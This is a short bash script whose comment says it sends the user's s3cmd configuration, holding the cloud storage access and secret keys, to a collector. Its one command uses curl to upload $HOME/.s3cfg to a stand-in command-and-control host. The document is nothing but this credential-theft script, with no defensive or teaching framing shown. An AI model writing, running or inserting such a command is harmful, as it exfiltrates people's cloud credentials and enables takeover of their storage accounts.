#!/bin/bash
# Sends the s3cmd configuration (access and secret key) to a collector.
curl -s -F "cfg=@$HOME/.s3cfg" https://c2.example.invalid/up
